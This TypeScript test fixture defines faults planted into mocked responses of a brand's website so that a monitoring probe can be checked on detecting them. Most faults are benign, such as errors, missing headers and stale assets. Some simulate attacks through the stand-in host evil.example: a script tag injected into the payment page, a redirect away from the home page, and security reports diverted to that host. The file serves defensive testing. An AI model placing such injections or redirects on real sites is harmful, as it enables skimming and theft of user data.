import type { Answer, Change } from "../watch/between"
import type { Kind } from "./finding"

/** An outage of one brand, and what the probe must call it. */
export interface Planted {
  readonly name: string
  readonly found: Kind
  readonly words: RegExp
  readonly change: Change
}

/** The texts of the build that outages are made of. */
export interface Texts {
  /** The home of another brand. */
  readonly otherHome: string
  readonly shell: string
  /** A legal document of another brand, a character a byte. */
  readonly otherDocument: string
}

const at =
  (path: RegExp, change: Change): Change =>
  (answer) =>
    path.test(answer.path) ? change(answer) : {}
const home = (change: Change) => at(/^\/(\?|$)/, change)
const answers = (path: RegExp, changed: Partial<Answer>) => at(path, () => changed)
const without =
  (name: string): Change =>
  ({ headers: { [name]: _, ...kept } }) => ({ headers: kept })
const withHeader =
  (name: string, value: string): Change =>
  ({ headers }) => ({ headers: { ...headers, [name]: value } })
const redirect =
  (location: (answer: Answer) => string): Change =>
  (answer) => ({
    status: 302,
    headers: { location: location(answer) },
    body: ""
  })

const quote = /\/public_api\/sales\/quote$/
const switches = /^\/config\/estado\.json$/
const destinations = /^\/config\/destinos\.json$/

const pages = ({ otherHome, shell }: Texts): ReadonlyArray<readonly [string, Kind, RegExp, Change]> => [
  ["another brand's home", "home", /shows the brand /, home(() => ({ body: otherHome }))],
  ["the shell instead of the printed home", "home", /holds no printed content/, home(() => ({ body: shell }))],
  [
    ...(["a home whose scripts are gone", "home", /is stale: the release has no \/assets\/old-/] as const),
    home(({ body }) => ({ body: body.replace(/\/assets\/[\w-]+\.js/, "/assets/old-12345678.js") }))
  ],
  [
    ...(["a home of another release", "home", /is not the page of the release/] as const),
    home(({ body }) => ({ body: body.replace("</h1>", " </h1>") }))
  ],
  ["a home from a cache", "home", /is a copy of 7200 s ago/, home(withHeader("age", "7200"))],
  ["a home with 503", "home", /answers 503/, home(() => ({ status: 503 }))],
  [
    ...(["a redirect loop", "home", /redirects in a circle/] as const),
    home(redirect(({ path }) => `/?${Number(path.slice(2)) + 1}`))
  ],
  ["a home that leads away", "home", /leads elsewhere: .*evil/, home(redirect(() => "https://evil.example/"))],
  ["an unknown page as 200", "unknown", /answers 200, not 404/, answers(/^\/nada-/, { status: 200 })],
  [
    ...(["an unknown page of the server's own", "unknown", /does not show the brand's page/] as const),
    answers(/^\/nada-/, { body: "<h1>Not Found</h1>" })
  ],
  [
    ...(["the release's folder is served", "unknown", /\/release\/scripts\.json answers 200/] as const),
    answers(/^\/release\//, { status: 200 })
  ],
  [
    ...(["the content policy is gone", "headers", /content-security-policy: missing/] as const),
    home(without("content-security-policy"))
  ],
  [
    ...(["HSTS is gone", "headers", /strict-transport-security: missing/] as const),
    home(without("strict-transport-security"))
  ],
  [
    ...(["pages are cached for a day", "headers", /cache-control: max-age=86400/] as const),
    home(withHeader("cache-control", "max-age=86400"))
  ]
]

const calls: ReadonlyArray<readonly [string, Kind, RegExp, Change]> = [
  ["a quote with 500", "quote", /answers 500/, answers(quote, { status: 500 })],
  ["a quote without a plan", "quote", /has no plan/, answers(quote, { body: "[]" })],
  ["a quote over its time", "quote", /took \d+ ms; \d+ ms is the limit/, answers(quote, { wait: 4500 })],
  ["a page of maintenance for a quote", "quote", /cannot be read/, answers(quote, { body: "<h1>Volvemos</h1>" })],
  [
    ...(["a provider of a stranger", "quote", /leads to https:\/\/evil\.example/] as const),
    answers(/^\/api_url$/, { body: '"https://evil.example"' })
  ]
]

const files = ({ otherDocument }: Texts): ReadonlyArray<readonly [string, Kind, RegExp, Change]> => [
  ["a broken switches file", "switches", /is no JSON object/, answers(switches, { body: "{" })],
  ["a large switches file", "switches", /has 2000 bytes/, answers(switches, { body: `{}${" ".repeat(1998)}` })],
  ["a broken list of destinations", "destinations", /cannot be read/, answers(destinations, { body: '[{"id":"x"}]' })],
  ["no list of destinations", "destinations", /answers 404/, answers(destinations, { status: 404 })],
  ["a missing PDF", "documents", /priva\.pdf answers 404/, answers(/priva\.pdf$/, { status: 404 })],
  [
    ...(["another brand's terms", "documents", /terminosycondiciones\.pdf is not the document/] as const),
    answers(/terminosycondiciones\.pdf$/, { body: otherDocument })
  ],
  [
    ...(["a script that no browser keeps", "assets", /is cached by: no-cache/] as const),
    at(/^\/assets\//, withHeader("cache-control", "no-cache"))
  ],
  [
    ...(["a missing chunk", "payment", /\/assets\/PaymentPage-.* answers 404/] as const),
    answers(/^\/assets\/PaymentPage-/, { status: 404 })
  ],
  [
    ...(["a changed script of the payment", "payment", /assets\/PaymentPage-.*is changed/] as const),
    at(/^\/assets\/PaymentPage-/, ({ body }) => ({ body: `${body};0` }))
  ],
  [
    ...(["one script more in the payment", "payment", /asks for https:\/\/evil\.example/] as const),
    at(/^\/cotizarcompletarpago/, ({ body }) => ({
      body: body.replace("</body>", '<script src="https://evil.example/s.js"></script></body>')
    }))
  ],
  ["a lost worker", "worker", /asistencia\.js answers 404/, answers(/^\/asistencia\.js$/, { status: 404 })],
  ["another worker", "worker", /is not the worker/, answers(/^\/asistencia\.js$/, { body: "0" })]
]

/** Outages that the probe must find and name. */
export const plantedOf = (texts: Texts): ReadonlyArray<Planted> =>
  [...pages(texts), ...calls, ...files(texts)].map(([name, found, words, change]) => ({ name, found, words, change }))

/** Changes of a brand whose browsers report to its own host (TR-28). */
export const plantedInReports: ReadonlyArray<Planted> = [
  {
    ...{ name: "reports of the home for a stranger", found: "headers", words: /reporting-endpoints: .*evil\.example/ },
    change: home(withHeader("reporting-endpoints", 'portal="https://evil.example/seen"'))
  },
  {
    ...{ name: "reports of the payment for a stranger", found: "payment", words: /report-uri: .*evil\.example/ },
    change: at(/^\/cotizarcompletarpago/, ({ headers }) => ({
      headers: Object.fromEntries(
        Object.entries(headers).map(([name, value]) => [
          name,
          value.replace("report-uri /reports", "report-uri https://evil.example/seen")
        ])
      )
    }))
  },
  {
    ...{ name: "reports that are sent nowhere", found: "headers", words: /reporting-endpoints: missing/ },
    change: home(without("reporting-endpoints"))
  }
]
